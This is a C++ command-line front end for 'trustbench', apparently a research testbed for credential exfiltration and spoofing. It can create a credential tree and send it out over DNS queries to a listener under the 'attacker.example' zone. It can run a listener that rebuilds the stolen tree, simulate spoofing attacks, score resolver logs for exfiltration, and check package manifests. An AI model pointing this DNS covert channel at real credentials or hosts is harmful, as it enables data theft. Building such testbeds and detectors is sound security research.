// trustbench: command-line front end for the library.
//
//   create-keystore  generate a credential tree (optionally phoning it home)
//   listen           collect covert queries and rebuild the tree
//   run-scenario     drive the closed-loop simulation with a chosen spoof
//   detect           score a resolver log for exfiltration patterns
//   verify           build or check a package content manifest
//
// Exit codes: 0 ok/clean, 1 I/O or runtime failure, 2 usage, 3 anomaly or
// unexpected outcome, 4 tampered package.

#include <CLI11.hpp>

#include <atomic>
#include <csignal>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <optional>
#include <string>
#include <vector>

#include "trustbench/trustbench.hpp"

namespace {

std::atomic<bool> g_stop{false};

void on_signal(int) { g_stop.store(true); }

struct Endpoint {
  std::string ip;
  std::uint16_t port = 0;
};

Endpoint parse_endpoint(const std::string& text) {
  const std::size_t colon = text.rfind(':');
  if (colon == std::string::npos || colon == 0 || colon + 1 == text.size()) {
    throw trustbench::ValidationError("endpoint '" + text + "' must be ip:port");
  }
  Endpoint ep;
  ep.ip = text.substr(0, colon);
  const std::string port_text = text.substr(colon + 1);
  try {
    const unsigned long v = std::stoul(port_text);
    if (v > 65535) throw std::out_of_range("port");
    ep.port = static_cast<std::uint16_t>(v);
  } catch (const std::exception&) {
    throw trustbench::ValidationError("bad port '" + port_text + "'");
  }
  return ep;
}

// ---------------------------------------------------------------------------

struct CreateArgs {
  std::string out;
  std::string name = "store";
  std::vector<std::string> enclaves;
  std::uint64_t seed = 1;
  bool trojan = false;
  std::string listener = "127.0.0.1:5353";
  std::string zone = "attacker.example";
  std::string session = "a1";
  std::size_t chunk_size = trustbench::dns::kDefaultChunkSize;
  std::uint64_t delay_ms = 0;
};

int run_create(const CreateArgs& args) {
  namespace ks = trustbench::keystore;
  const std::vector<std::string> enclaves =
      args.enclaves.empty() ? trustbench::scenario::victim_enclaves() : args.enclaves;
  const ks::KeystoreTree tree = ks::create_keystore(args.name, enclaves, args.seed);
  ks::save_tree(tree, args.out);
  std::cout << "created " << (std::filesystem::path(args.out) / args.name).string()
            << " with " << tree.enclaves().size() << " enclaves ("
            << tree.artifact_count() << " artifacts)\n";
  std::cout << "fingerprint " << ks::fingerprint_of(tree).hex << "\n";

  if (args.trojan) {
    const Endpoint ep = parse_endpoint(args.listener);
    trustbench::exfil::ExfilConfig cfg;
    cfg.listener_ip = ep.ip;
    cfg.listener_port = ep.port;
    cfg.zone = args.zone;
    cfg.session = trustbench::dns::SessionToken(args.session);
    cfg.chunk_size = args.chunk_size;
    cfg.inter_query_delay = std::chrono::milliseconds(args.delay_ms);
    trustbench::exfil::UdpSink sink(ep.ip, ep.port);
    const auto report = trustbench::exfil::exfiltrate_tree(tree, cfg, sink);
    std::cout << "exfiltrated " << report.files_sent << " files in "
              << report.queries_sent << " queries to " << ep.ip << ":" << ep.port
              << " zone " << cfg.zone << " session " << cfg.session.str() << "\n";
  }
  return 0;
}

// ---------------------------------------------------------------------------

struct ListenArgs {
  std::string bind = "127.0.0.1:5353";
  std::string zone = "attacker.example";
  std::string log_path;
  std::string reconstruct_dir;
  std::string root_name = "recovered";
  std::string session;
  std::uint64_t idle_timeout_ms = 0;
  std::uint64_t max_packets = 0;
};

int run_listen(const ListenArgs& args) {
  namespace ex = trustbench::exfil;
  const Endpoint ep = parse_endpoint(args.bind);

  std::signal(SIGINT, on_signal);
  std::signal(SIGTERM, on_signal);

  ex::ReassemblyState state;
  ex::Listener listener(ep.ip, ep.port, args.zone);
  std::cout << "listening on " << ep.ip << ":" << listener.port() << " zone "
            << args.zone << std::endl;

  ex::ListenOptions options;
  options.idle_timeout = std::chrono::milliseconds(args.idle_timeout_ms);
  options.max_packets = args.max_packets;
  const ex::ListenerLog log = listener.serve(state, &g_stop, options);

  if (!args.log_path.empty()) {
    std::ofstream out(args.log_path, std::ios::binary | std::ios::trunc);
    if (!out) throw trustbench::IoError("cannot open '" + args.log_path + "' for writing");
    for (const auto& entry : log) out << ex::log_line(entry) << "\n";
    if (!out) throw trustbench::IoError("write failed on '" + args.log_path + "'");
  }

  const std::vector<std::string> sessions = state.sessions();
  for (const std::string& session : sessions) {
    std::cout << "session " << session << ":\n";
    for (const ex::FileStatus& fs :
         state.status(trustbench::dns::SessionToken(session))) {
      std::cout << "  " << fs.tag.str() << " " << ex::to_string(fs.status) << " "
                << fs.received_chunks << "/"
                << (fs.total_chunks == 0 ? std::string("?")
                                         : std::to_string(fs.total_chunks));
      if (!fs.relative_path.empty()) std::cout << " " << fs.relative_path;
      std::cout << "\n";
    }
  }

  if (!args.reconstruct_dir.empty()) {
    std::string session = args.session;
    if (session.empty()) {
      if (sessions.size() != 1) {
        throw trustbench::ValidationError(
            "--session required when " + std::to_string(sessions.size()) +
            " sessions were captured");
      }
      session = sessions.front();
    }
    const auto tree = state.reconstruct_tree(trustbench::dns::SessionToken(session),
                                             args.root_name);
    trustbench::keystore::save_tree(tree, args.reconstruct_dir);
    std::cout << "reconstructed "
              << (std::filesystem::path(args.reconstruct_dir) / args.root_name).string()
              << " fingerprint " << trustbench::keystore::fingerprint_of(tree).hex
              << "\n";
  }
  return 0;
}

// ---------------------------------------------------------------------------

struct ScenarioArgs {
  std::string spoof = "none";
  std::string keystore_dir;
  std::string trace_out;
  std::string expect;
  std::uint64_t seed = 1;
  std::uint64_t duration_ticks = 4200;
  std::uint64_t spoof_start = 540;
  double spoof_rate = 60.0;
  bool mitigate = false;
};

int run_run_scenario(const ScenarioArgs& args) {
  namespace sc = trustbench::scenario;
  sc::ScenarioConfig cfg;
  cfg.seed = args.seed;
  cfg.duration_ticks = args.duration_ticks;
  cfg.mitigate = args.mitigate;
  cfg.spoof = sc::make_named_spoof(args.spoof, cfg.params);
  if (cfg.spoof) {
    cfg.spoof->start_tick = args.spoof_start;
    cfg.spoof->rate_hz = args.spoof_rate;
  }
  if (!args.keystore_dir.empty()) {
    cfg.attacker_credentials = trustbench::keystore::load_tree(args.keystore_dir);
  }

  const sc::RunResult result = sc::run_scenario(cfg);

  if (!args.trace_out.empty()) {
    std::ofstream out(args.trace_out, std::ios::binary | std::ios::trunc);
    if (!out) throw trustbench::IoError("cannot open '" + args.trace_out + "' for writing");
    out << sc::render_trace(result.trace);
    if (!out) throw trustbench::IoError("write failed on '" + args.trace_out + "'");
  }

  std::cout << "spoof " << args.spoof << " outcome "
            << sc::to_string(result.outcome.classification) << "\n";
  std::cout << "detail: " << result.outcome.detail << "\n";
  for (const auto& [key, value] : result.outcome.evidence) {
    std::cout << "  " << key << "=" << sc::format_double(value) << "\n";
  }
  if (cfg.spoof) {
    std::cout << "spoofed-topic reads " << result.spoofed_topic_reads
              << " attacker-won " << result.spoofed_topic_attacker_reads << "\n";
    if (result.spoof_denied > 0) {
      std::cout << "spoof publishes denied " << result.spoof_denied << "\n";
    }
  }
  if (args.mitigate) {
    std::cout << "gate rejections " << result.gate_rejections << "\n";
  }

  if (!args.expect.empty()) {
    const auto want = args.expect;
    if (sc::to_string(result.outcome.classification) != want) {
      std::cerr << "expected " << want << ", got "
                << sc::to_string(result.outcome.classification) << "\n";
      return 3;
    }
  }
  return 0;
}

// ---------------------------------------------------------------------------

struct DetectArgs {
  std::string log_path;
  std::string report_path;
  double window_seconds = 10.0;
  trustbench::defense::DetectorThresholds thresholds;
};

int run_detect(const DetectArgs& args) {
  namespace df = trustbench::defense;
  const auto observations = df::load_observations(args.log_path);
  const auto reports =
      df::score_dns_window(observations, args.window_seconds, args.thresholds);

  std::ofstream report_file;
  if (!args.report_path.empty()) {
    report_file.open(args.report_path, std::ios::binary | std::ios::trunc);
    if (!report_file) {
      throw trustbench::IoError("cannot open '" + args.report_path + "' for writing");
    }
  }

  bool any_flagged = false;
  for (const auto& r : reports) {
    std::string reasons;
    for (const std::string& reason : r.reasons) {
      if (!reasons.empty()) reasons += ",";
      reasons += reason;
    }
    char line[512];
    std::snprintf(line, sizeof(line),
                  "%s window [%.3f, %.3f) queries=%llu unique=%llu entropy=%.3f "
                  "max-name=%zu %s%s",
                  r.zone.c_str(), r.window_start, r.window_end,
                  static_cast<unsigned long long>(r.query_count),
                  static_cast<unsigned long long>(r.unique_name_count),
                  r.mean_prefix_entropy_bits, r.max_name_length,
                  r.flagged ? "FLAGGED " : "ok", reasons.c_str());
    if (report_file.is_open()) report_file << line << "\n";
    if (r.flagged) {
      any_flagged = true;
      std::cout << line << "\n";
    }
  }
  std::cout << (any_flagged ? "verdict: flagged" : "verdict: clean") << " ("
            << observations.size() << " observations, " << reports.size()
            << " windows)\n";
  return any_flagged ? 3 : 0;
}

// ---------------------------------------------------------------------------

struct VerifyArgs {
  std::string dir;
  std::string manifest_path;
  bool build = false;
};

int run_verify(const VerifyArgs& args) {
  namespace df = trustbench::defense;
  if (args.build) {
    const df::PackageManifest manifest = df::build_manifest(args.dir);
    df::write_manifest(manifest, args.manifest_path);
    std::cout << "wrote manifest for " << manifest.entries.size() << " files\n";
    return 0;
  }
  const df::PackageManifest trusted = df::read_manifest(args.manifest_path);
  const df::VerifyResult result = df::verify_manifest(args.dir, trusted);
  for (const auto& d : result.discrepancies) {
    std::cout << df::to_string(d.kind) << " " << d.relative_path << "\n";
  }
  if (result.clean) {
    std::cout << "ok: " << trusted.entries.size() << " files verified\n";
    return 0;
  }
  std::cout << "tampered: " << result.discrepancies.size() << " discrepancies\n";
  return 4;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"keystore exfiltration and spoofing testbed"};
  app.require_subcommand(1);
  app.set_config("--config", "", "read options from a key=value file");
  app.fallthrough(false);

  CreateArgs create_args;
  auto* create = app.add_subcommand("create-keystore", "generate a credential tree");
  create->add_option("--out", create_args.out, "directory to create the tree under")
      ->required();
  create->add_option("--name", create_args.name, "root directory name");
  create->add_option("--enclaves", create_args.enclaves, "enclave names")
      ->delimiter(',');
  create->add_option("--seed", create_args.seed, "generation seed");
  create->add_flag("--trojan", create_args.trojan,
                   "also exfiltrate the tree over DNS queries");
  create->add_option("--listener", create_args.listener, "exfil target ip:port")
      ->envname("TRUSTBENCH_LISTENER");
  create->add_option("--zone", create_args.zone, "covert channel zone")
      ->envname("TRUSTBENCH_ZONE");
  create->add_option("--session", create_args.session, "session token");
  create->add_option("--chunk-size", create_args.chunk_size,
                     "base64 chars per query (1-63)");
  create->add_option("--delay-ms", create_args.delay_ms, "delay between queries");

  ListenArgs listen_args;
  auto* listen = app.add_subcommand("listen", "collect covert queries");
  listen->add_option("--bind", listen_args.bind, "ip:port to bind (port 0 = ephemeral)")
      ->envname("TRUSTBENCH_LISTENER");
  listen->add_option("--zone", listen_args.zone, "covert channel zone")
      ->envname("TRUSTBENCH_ZONE");
  listen->add_option("--log", listen_args.log_path, "write per-query log here");
  listen->add_option("--reconstruct", listen_args.reconstruct_dir,
                     "rebuild the keystore under this directory on exit");
  listen->add_option("--root-name", listen_args.root_name,
                     "root directory name for the rebuilt tree");
  listen->add_option("--session", listen_args.session,
                     "session to reconstruct (default: the only one)");
  listen->add_option("--idle-timeout-ms", listen_args.idle_timeout_ms,
                     "stop after this long without a packet (0 = never)");
  listen->add_option("--max-packets", listen_args.max_packets,
                     "stop after this many packets (0 = unlimited)");

  ScenarioArgs scenario_args;
  auto* scen = app.add_subcommand("run-scenario", "drive the closed-loop simulation");
  scen->add_option("--spoof", scenario_args.spoof,
                   "none|brake|runaway|steer|phantom|suppress");
  scen->add_option("--keystore", scenario_args.keystore_dir,
                   "credential tree the spoofer presents (default: the victim's)");
  scen->add_option("--seed", scenario_args.seed, "credential generation seed");
  scen->add_option("--duration-ticks", scenario_args.duration_ticks, "run length");
  scen->add_option("--spoof-start", scenario_args.spoof_start, "first spoofed tick");
  scen->add_option("--spoof-rate", scenario_args.spoof_rate, "spoof publish rate, Hz");
  scen->add_option("--trace-out", scenario_args.trace_out, "write the tick trace here");
  scen->add_flag("--mitigate", scenario_args.mitigate,
                 "gate readers with semantic plausibility checks");
  scen->add_option("--expect", scenario_args.expect,
                   "fail (exit 3) unless the outcome classifies as this");

  DetectArgs detect_args;
  auto* detect = app.add_subcommand("detect", "score a resolver log");
  detect->add_option("--log", detect_args.log_path, "resolver log to score")->required();
  detect->add_option("--window", detect_args.window_seconds, "window length, seconds");
  detect->add_option("--max-queries", detect_args.thresholds.max_query_count,
                     "per-window query budget");
  detect->add_option("--max-unique", detect_args.thresholds.max_unique_names,
                     "per-window unique-name budget");
  detect->add_option("--max-entropy", detect_args.thresholds.max_mean_entropy_bits,
                     "mean prefix entropy limit, bits/char");
  detect->add_option("--report", detect_args.report_path, "write all window scores here");

  VerifyArgs verify_args;
  auto* verify = app.add_subcommand("verify", "build or check a package manifest");
  verify->add_option("--dir", verify_args.dir, "package directory")->required();
  verify->add_option("--manifest", verify_args.manifest_path, "manifest file")
      ->required();
  verify->add_flag("--build", verify_args.build,
                   "write the manifest instead of checking against it");

  try {
    app.parse(argc, argv);
  } catch (const CLI::ParseError& e) {
    const int code = app.exit(e);
    return code == 0 ? 0 : 2;
  }

  try {
    if (create->parsed()) return run_create(create_args);
    if (listen->parsed()) return run_listen(listen_args);
    if (scen->parsed()) return run_run_scenario(scenario_args);
    if (detect->parsed()) return run_detect(detect_args);
    if (verify->parsed()) return run_verify(verify_args);
  } catch (const trustbench::ValidationError& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 2;
  } catch (const trustbench::Error& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  } catch (const std::exception& e) {
    std::cerr << "error: " << e.what() << "\n";
    return 1;
  }
  return 2;
}
